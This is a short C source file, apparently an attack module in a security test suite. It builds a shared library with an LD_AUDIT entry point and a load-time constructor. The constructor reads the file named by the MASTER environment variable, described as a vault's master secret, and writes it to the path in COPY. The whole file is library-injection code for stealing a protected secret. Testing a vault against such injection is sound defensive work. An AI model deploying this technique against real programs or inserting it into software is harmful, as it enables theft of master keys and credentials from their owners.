/* A library that copies the vault's master as soon as it is loaded into a program that may open it. */
#include "attack.h"

unsigned int la_version(unsigned int version)
{
	return version;
}

__attribute__((constructor)) static void inside(void)
{
	static char buffer[8 << 20];
	const char *master = getenv("MASTER"), *copy = getenv("COPY");

	if (master && copy)
		spill(copy, buffer, slurp(master, buffer, sizeof(buffer)));
}
